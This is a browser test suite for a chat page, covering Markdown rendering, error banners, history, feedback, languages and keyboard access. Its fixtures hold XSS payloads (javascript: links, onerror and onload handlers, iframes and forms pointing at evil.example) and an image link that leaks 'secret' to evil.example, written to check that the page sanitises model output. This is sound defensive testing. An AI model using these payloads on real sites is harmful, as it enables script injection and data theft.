/*
 * The chat page beyond one answer: Markdown, banners, history, feedback,
 * languages, keys.
 */
import { readFileSync } from "node:fs";
import { assert, becomes, equal, mock, site } from "./harness.mjs";
import {
	answer, ask, askAll, asked, copied, INCIDENT, inFlight, last, listens, open, problem, says,
	visit,
} from "./page.mjs";

const MARKDOWN = `Here is **how**:

1. One
2. Two

| name | value |
|------|------:|
| a    | 1     |

\`\`\`sql
SELECT a -- it
FROM t;
\`\`\`

- [x] done

[a link](https://docs.example/x) and ![a pixel](https://evil.example/p?d=secret)`;

async function markdown({ page }) {
	await mock.script(says(MARKDOWN));
	await open(page);
	await askAll(page, "How?");
	equal(await answer(page).locator("strong").innerText(), "how", "bold");
	equal(await answer(page).locator("ol li").allInnerTexts(),
		["One", "Two"], "list");
	equal(await answer(page).locator("td").allInnerTexts(), ["a", "1"],
		"table");
	await answer(page).locator(".hljs-keyword").first().waitFor();
	equal(await answer(page).locator("pre").innerText(),
		"SELECT a -- it\nFROM t;", "code");
	/* an image is a link, and nobody has asked for it */
	equal(await answer(page).locator("img").count(), 0, "images");
	const links = answer(page).locator("a");
	equal(await links.allInnerTexts(), ["a link (docs.example)",
		"a pixel (evil.example)"], "links say where they lead");
	for (const link of await links.all())
		equal(await link.getAttribute("rel"),
			"noopener noreferrer nofollow", "rel");
}

/* What a model may say to get out of its box. */
const HOSTILE = [
	"[x](javascript:alert(1))", "<a href=\"javascript:alert(1)\">x</a>",
	"<img src=x onerror=alert(1)>", "![x](javascript:alert(1))",
	"<svg onload=alert(1)>", "[x](data:text/html,<script>alert(1)</script>)",
	"<style>*{display:none}</style>", "<iframe src=//evil.example></iframe>",
	"<form action=//evil.example><input name=key></form>",
	"<base href=//evil.example>", "<p id=ask style=color:red>x</p>",
	"`<b>x</b>`", "<https://evil.example/a\"onclick=alert(1)>",
];

async function hostile({ page, allow }) {
	allow(/favicon/);
	await mock.script(says(HOSTILE.join("\n\n")));
	await open(page);
	await askAll(page, "Attack.");
	const found = await answer(page).evaluate((root) =>
		[...root.querySelectorAll("*")].flatMap((node) => [
			...node.matches("img, svg, style, iframe, form, input, base," +
				" script, object, embed") ? [node.localName] : [],
			...[...node.attributes]
				.filter((a) => /^on|^style$|^id$/.test(a.name) ||
					/^\s*(javascript|data):/i.test(a.value))
				.map((a) => `${node.localName} ${a.name}`),
		]));
	equal(found, [], "what must not be in an answer");
	assert((await answer(page).innerText()).includes("<svg onload=alert(1)>"),
		"markup is shown as text");
}

/* A closed block is not touched again while the next ones arrive. */
async function openTailOnly({ page }) {
	await mock.script(`pace=gate,${says("first\n\nsecond\n\n- a\n- b")}`);
	await open(page);
	await ask(page, "Go.");
	await inFlight();
	await mock.step(2);
	await answer(page).locator("p").nth(1).waitFor();
	await answer(page).locator("p").first().evaluate((node) =>
		(node.dataset.mark = "same"));
	await mock.step(20);
	await last(page).locator(".meta").waitFor();
	equal(await answer(page).locator("[data-mark=same]").innerText(), "first",
		"the same node");
	equal(await answer(page).locator("li").count(), 2, "items");
}

async function copies({ page, context }) {
	await context.grantPermissions(["clipboard-read", "clipboard-write"]);
	await mock.script(says(MARKDOWN));
	await open(page);
	await askAll(page, "How?");
	await page.getByRole("button", { name: "Copy code" }).click();
	await copied(page, "SELECT a -- it\nFROM t;");
	await becomes(() => page.locator("#announcer").innerText(), "Copied",
		"what is announced");
	await page.getByRole("button", { name: "Copy answer" }).click();
	await copied(page, MARKDOWN);
}

async function regenerate({ page }) {
	await mock.script("text=one");
	await open(page);
	await askAll(page, "First?");
	await askAll(page, "Second?");
	await mock.script("text=two");
	equal(await page.getByRole("button", { name: "Regenerate" }).count(), 1,
		"buttons");
	await page.getByRole("button", { name: "Regenerate" }).click();
	await answer(page).getByText("two").waitFor();
	equal(await page.locator(".turn").count(), 2, "turns");
	equal(await asked(page), "Second?", "the question");
	equal((await mock.calls()).last.at(-1).messages, 4, "messages sent");
}

async function editAndResend({ page }) {
	await mock.script("text=one");
	await open(page);
	await askAll(page, "Frist?");
	await page.keyboard.press("ArrowUp");
	const field = page.getByLabel("Your question");
	equal(await field.inputValue(), "Frist?", "the question to change");
	await page.getByText("You are changing your last question.").waitFor();
	await page.keyboard.press("Escape");
	equal(await field.inputValue(), "", "after Esc");
	await page.getByRole("button", { name: "Change the question" }).click();
	await askAll(page, "First?");
	equal(await page.locator(".turn").count(), 1, "turns");
	equal(await asked(page), "First?", "the question");
	assert(await page.locator("#editing").isHidden(), "the note is gone");
}

async function goOn({ page }) {
	await mock.script("tokens=8,error=after:3");
	await open(page);
	await ask(page, "A story.");
	const more = problem(page).getByRole("button",
		{ name: "Go on from there" });
	await more.waitFor();
	await mock.script("tokens=2");
	await more.click();
	await last(page).locator(".meta").waitFor();
	equal(await page.locator(".turn").count(), 2, "turns");
	equal((await mock.calls()).last.at(-1).messages, 4, "messages sent");
}

/* Each kind of trouble: the server's answer, and what a reader sees of it. */
const TROUBLE = [
	[429, "rate_limited", { "retry-after": "7" },
		"You are asking faster than this site allows."],
	[503, "busy", { "retry-after": "1" }, "This service is busy right now."],
	[429, "user_cap", { "retry-after": "3600" },
		"Your budget for today is used up."],
	[503, "system_cap", { "retry-after": "3600" },
		"The budget of this service for today is used up."],
	[503, "paused", {}, "The operator has paused this service."],
	[502, "upstream_error", {}, "The AI provider does not answer."],
	[400, "content_blocked", {}, "This message cannot be answered here."],
	[401, "unauthorized", {}, "You are not signed in."],
	[403, "forbidden", {}, "You may not do that here."],
	[413, "too_large", {}, "This question is too long."],
	[410, "expired", {}, "The rest of this answer is no longer kept."],
	[404, "unknown_feature", {}, "There is no feature of this name."],
];

async function banners({ page, allow }) {
	const id = `req_${"0".repeat(26)}`;
	const hints = new Set();

	allow(/status of 4\d\d|status of 50\d/);
	await open(page);
	for (const [status, code, headers, words] of TROUBLE) {
		await page.route("**/chat/stream", (route) => route.fulfill({
			status, headers,
			json: {
				code, title: "There is no feature of this name.",
				request_id: id, status, detail: "Details.",
				retryable: status === 503 || status === 502,
			},
		}), { times: 1 });
		await ask(page, `Trouble: ${code}`);
		await problem(page).getByText(words, { exact: true }).waitFor();
		equal(await problem(page).locator("code").innerText(), id, code);
		await problem(page).getByRole("link", { name: "Service status" })
			.waitFor();
		assert((await page.locator("#announcer").innerText())
			.includes(words), `${code} is announced`);
		hints.add(await problem(page).locator("p").nth(1).innerText());
	}
	equal(hints.size, TROUBLE.length, "each has its own hint");
	await page.getByText(/^It starts afresh on \w+/).first().waitFor();
}

async function garbled({ page, allow }) {
	allow(/status of/);
	await open(page);
	await page.route("**/chat/stream", (route) => route.fulfill({
		contentType: "text/event-stream", body: "data: {\"tok\n\n",
	}));
	await ask(page, "Hello?");
	await problem(page).getByText("The server sent what this page cannot read.")
		.waitFor();
}

async function history({ page }) {
	await mock.script("text=kept+answer");
	await open(page);
	await askAll(page, "First talk?");
	await page.getByRole("button", { name: "New chat" }).click();
	await askAll(page, "Second talk?");
	await page.reload();
	await listens(page);
	await page.getByRole("button", { name: "History" }).click();
	const dialog = page.getByRole("dialog", { name: "History" });
	equal(await dialog.locator(".title").allInnerTexts(),
		["Second talk?", "First talk?"], "the latest first");
	const [file] = await Promise.all([page.waitForEvent("download"),
		dialog.getByRole("button", { name: "Export" }).click()]);
	const kept = JSON.parse(readFileSync(await file.path(), "utf8"));
	equal(kept.conversations.map((one) => one.turns[0].text),
		["kept answer", "kept answer"], "exported");
	assert(!JSON.stringify(kept).includes(site.key), "no key in the export");
	await dialog.getByRole("button", { name: "First talk?" }).first().click();
	equal(await asked(page), "First talk?", "opened");
	equal((await answer(page).innerText()).trim(), "kept answer", "its answer");
	await page.getByLabel("Answer with").selectOption("chat");
	await askAll(page, "More?");
	equal((await mock.calls()).last.at(-1).messages, 4, "messages sent");
	await page.getByRole("button", { name: "History" }).click();
	equal(await dialog.locator(".title").count(), 2, "still two");
	await dialog.getByRole("button", { name: "Delete “First talk?”" }).click();
	equal(await dialog.locator(".title").allInnerTexts(), ["Second talk?"],
		"deleted");
	await dialog.getByRole("button", { name: "Delete all" }).click();
	await dialog.getByRole("button", { name: "Really delete all?" }).click();
	await dialog.getByText("No conversations yet.").waitFor();
	equal(await page.evaluate(() => Object.keys(localStorage)
		.filter((name) => name.includes("talk."))), [], "nothing is kept");
}

async function historyOff({ page }) {
	await mock.script("tokens=1");
	await open(page);
	await page.getByRole("button", { name: "Settings" }).click();
	await page.getByLabel("Keep conversations in this browser").uncheck();
	await page.keyboard.press("Escape");
	await askAll(page, "Secret?");
	equal(await page.evaluate(() => Object.keys(localStorage)
		.filter((name) => name.includes("talk."))), [], "nothing is kept");
}

async function feedback({ page }) {
	/* what goes out when the form is sent, once it has arrived */
	const send = async () => {
		const [response] = await Promise.all([
			page.waitForResponse("**/feedback"),
			page.getByRole("button", { name: "Send feedback" }).click()]);
		await page.getByText("Thank you: your feedback has arrived.").first()
			.waitFor();
		return response.request().postDataJSON();
	};
	await mock.script("text=an+answer");
	await open(page);
	await askAll(page, "Judge me?");
	await page.getByRole("button", { name: "Good answer" }).click();
	await page.getByLabel(/What was good or bad/).fill("Clear.");
	const first = await send();
	assert(INCIDENT.test(first.request_id), "request id");
	equal([first.rating, first.comment, first.question], [1, "Clear.",
		undefined], "nothing of the content without consent");
	await page.getByRole("button", { name: "Bad answer" }).click();
	await page.getByLabel(/Keep my question and this answer/).check();
	const second = await send();
	equal([second.rating, second.agreed, second.question,
		second.answer.trim()], [-1, true, "Judge me?", "an answer"],
	"with consent");
}

/* languages */

const words = (language, part = "") => JSON.parse(readFileSync(
	new URL(`../../www/lang/${part}${language}.json`, import.meta.url)));

function sameKeys() {
	for (const part of ["", "people/", "agents/"]) {
		const [english, german] = [words("en", part), words("de", part)];
		equal(Object.keys(german), Object.keys(english), "keys");
		for (const [key, text] of Object.entries(german))
			equal([...text.matchAll(/\{\w+\}/g)].map(String).sort(),
				[...english[key].matchAll(/\{\w+\}/g)].map(String).sort(),
				key);
	}
}

/* The pages say the same in English with and without their file. */
function sameEnglish() {
	for (const [page, part, least] of [["", "", 30],
		["login/", "people/", 12], ["account/", "people/", 30],
		["agents/", "agents/", 20]]) {
		const english = { ...words("en"), ...words("en", part) };
		const html = readFileSync(new URL(`../../www/${page}index.html`,
			import.meta.url), "utf8");
		const list = [...html.matchAll(/data-t="(\w+)"[^>]*>([^<]*)</g)];
		assert(list.length > least, `texts found in ${page}`);
		for (const [, key, text] of list)
			equal(text, english[key], `${page}${key}`);
	}
}

/* What the scripts and pages say is in the file, and nothing else is. */
function allSaid() {
	for (const [part, files] of [
		["", ["index.html", "asking.js", "banner.js", "chat.js", "dom.js", "feedback.js",
			"frame.js", "markdown.js", "panels.js", "turn.js",
			"../src/ops/widget.c"]],
		["people/", ["people.js", "login/index.html", "login/login.js",
			"account/index.html", "account/account.js"]]]) {
		const keys = Object.keys(words("en", part));
		const text = files.map((name) => readFileSync(new URL(
			`../../www/${name}`, import.meta.url), "utf8")).join("\n");
		const said = [...text.matchAll(/\bt\("(\w+)"|data-t[\w-]*=\\?"(\w+)/g)]
			.map(([, a, b]) => a ?? b);
		equal(said.filter((key) => !keys.includes(key)), [], "missing words");
		equal(keys.filter((key) => !text.includes(`"${key}`) &&
			!/(Title|Hint)$|^(dir|expired|revoked)$/.test(key)),
		[], "words that nothing says");
	}
}

async function german({ page }) {
	await mock.script("tokens=2");
	await open(page);
	await page.getByRole("button", { name: "Settings" }).click();
	await page.getByLabel("Language").selectOption("de");
	await page.keyboard.press("Escape");
	await page.getByText("Was möchten Sie wissen?").waitFor();
	equal(await page.evaluate(() => document.documentElement.lang), "de",
		"lang");
	await page.getByLabel("Ihre Frage").fill("Wie?");
	await page.keyboard.press("Enter");
	await page.getByText(/\d Token ein, 2 aus · 0,0/).waitFor();
	await page.reload();
	await page.getByRole("button", { name: "Verlauf" }).waitFor();
}

/* A language that runs from right to left mirrors the page. */
async function rightToLeft({ page }) {
	await page.route("**/lang/en.json", (route) =>
		route.fulfill({ json: { ...words("en"), dir: "rtl" } }));
	await mock.script(says("שלום עולם\n\nhello world\n\n```\nx = 1\n```"));
	await open(page);
	await askAll(page, "שלום?");
	const at = async (selector) =>
		(await page.locator(selector).first().boundingBox()).x;
	assert(await at(".brand") > await at("#openSettings"), "the header");
	assert(await at("#feature") > await at("#send"), "the composer");
	equal(await answer(page).locator("p").evaluateAll((list) =>
		list.map((p) => getComputedStyle(p).direction)), ["rtl", "ltr"],
	"each paragraph its own way");
	equal(await answer(page).locator("pre").evaluate((pre) =>
		getComputedStyle(pre).direction), "ltr", "code");
	const [is, room] = await page.evaluate(() =>
		[document.documentElement.scrollWidth, innerWidth]);
	assert(is <= room, `the page is ${is} px wide in ${room} px`);
}

/* keys, motion, colours */

async function keyboardOnly({ page }) {
	const focusIs = (id) => becomes(() => page.evaluate(() =>
		document.activeElement.id), id, "focus");
	const tabTo = async (name) => {
		for (let i = 0; i < 40; i++) {
			await page.keyboard.press("Tab");
			const at = await page.evaluate(() => {
				const node = document.activeElement;
				return node.ariaLabel || node.labels?.[0]?.textContent ||
					node.textContent.trim();
			});
			if (at === name)
				return;
		}
		throw new Error(`Tab does not reach ${name}`);
	};

	await mock.script("pace=gate,tokens=4");
	await page.goto("/");
	await page.getByLabel("API key").waitFor();
	await tabTo("API key");
	await page.keyboard.type(site.key);
	await page.keyboard.press("Enter");
	await focusIs("question");
	await tabTo("Answer with");
	await page.keyboard.type("Chat");
	await page.keyboard.press("Shift+Tab");
	await page.keyboard.type("By keyboard?");
	await page.keyboard.press("Enter");
	await inFlight();
	await mock.step(2);
	await answer(page).getByText("t2").waitFor();
	await page.keyboard.press("Escape");
	await last(page).getByText("Stopped.").waitFor();
	await focusIs("question");
	await mock.script("tokens=2");
	await page.locator("body").press("Tab");
	await tabTo("Copy answer");
	await tabTo("Regenerate");
	await page.keyboard.press("Enter");
	await last(page).locator(".meta").waitFor();
	await focusIs("question");
	await tabTo("History");
	await page.keyboard.press("Enter");
	await page.getByRole("dialog", { name: "History" }).waitFor();
	await page.keyboard.press("Escape");
	await focusIs("openHistory");
	await page.keyboard.press("?");
	await page.getByRole("dialog", { name: "Keys" }).waitFor();
	await page.keyboard.press("Escape");
	await page.keyboard.press("/");
	await focusIs("question");
}

async function keysOff({ page }) {
	await open(page);
	await page.getByRole("button", { name: "Settings" }).click();
	await page.getByLabel("Shortcuts of one key").uncheck();
	await page.keyboard.press("Escape");
	await page.keyboard.press("?");
	equal(await page.locator("dialog[open]").count(), 0, "dialogs");
}

async function lessMotion({ page }) {
	await mock.script("pace=gate,tokens=4");
	await page.emulateMedia({ reducedMotion: "reduce" });
	await open(page);
	await ask(page, "Wait.");
	equal(await page.locator(".thinking").evaluate((node) =>
		getComputedStyle(node, "::before").animationName), "none",
	"animation");
	await page.keyboard.press("Escape");
}

async function ownColours({ page }) {
	const dark = () => page.evaluate(() =>
		getComputedStyle(document.body).backgroundColor);
	await visit(page);
	const light = await dark();
	await page.getByRole("button", { name: "Settings" }).click();
	await page.getByLabel("Colours").selectOption("dark");
	await page.keyboard.press("Escape");
	assert(await dark() !== light, "dark");
	await page.reload();
	assert(await dark() !== light, "still dark");
}

/* A session may end elsewhere: the way back is to sign in, not a key. */
async function sessionOver({ page, context, allow }) {
	allow(/status of 401/);
	const login = await context.request.post("/auth/login", {
		data: { login: "ann", password: "correct horse battery" },
	});
	equal(login.status(), 200, "sign-in");
	await page.goto("/");
	await page.getByText("left today").waitFor();
	await context.clearCookies();
	await ask(page, "Still here?");
	await problem(page).getByText("Your session has ended.").waitFor();
	await problem(page).getByRole("link", { name: "Sign in", exact: true }).click();
	await page.getByRole("heading", { name: "Sign in" }).waitFor();
}

/* Who is signed in needs no key and sees what is left of the day. */
async function signedIn({ page, context }) {
	const login = await context.request.post("/auth/login", {
		data: { login: "ann", password: "correct horse battery" },
	});
	equal(login.status(), 200, "sign-in");
	await mock.script("tokens=4,in=1000,out=20000");
	await page.goto("/");
	await page.getByText(/^\$0\.50 of \$0\.50 left today\.$/).waitFor();
	assert(await page.getByLabel("API key").isHidden(), "no key is needed");
	await page.getByLabel("Answer with").selectOption("chat");
	await askAll(page, "Hello?");
	await page.getByText("$0.46 of $0.50 left today.", { exact: true })
		.waitFor();
	await page.getByRole("button", { name: "Good answer" }).click();
	await page.getByRole("button", { name: "Send feedback" }).click();
	await page.getByText("Thank you: your feedback has arrived.").first()
		.waitFor();
	equal(await page.evaluate(() => document.cookie), "",
		"cookies that a script sees");
}

export const plain = [
	{ name: "words: the same keys in all languages", run: sameKeys },
	{ name: "words: English in the page and in its file", run: sameEnglish },
	{ name: "words: all that is said, and nothing else", run: allSaid },
];

export const cases = [
	{ name: "talk: Markdown, links, images as links", run: markdown },
	{ name: "talk: what a hostile model says", run: hostile },
	{ name: "talk: only the open block is drawn again", run: openTailOnly },
	{ name: "talk: copies code and answer", run: copies },
	{ name: "talk: regenerate", run: regenerate },
	{ name: "talk: edit and resend", run: editAndResend },
	{ name: "talk: go on after a break", run: goOn },
	{ name: "talk: every banner has its own words", run: banners },
	{ name: "talk: what cannot be read", run: garbled },
	{ name: "talk: history", run: history },
	{ name: "talk: history turned off", run: historyOff },
	{ name: "talk: feedback", run: feedback },
	{ name: "talk: signed in", run: signedIn },
	{ name: "talk: the session is over", run: sessionOver },
	{ name: "talk: German", run: german },
	{ name: "talk: right to left", run: rightToLeft },
	{ name: "talk: right to left at 320 px", run: rightToLeft, width: 320 },
	{ name: "talk: keyboard only", run: keyboardOnly },
	{ name: "talk: shortcuts turned off", run: keysOff },
	{ name: "talk: less motion", run: lessMotion },
	{ name: "talk: one's own colours", run: ownColours },
];
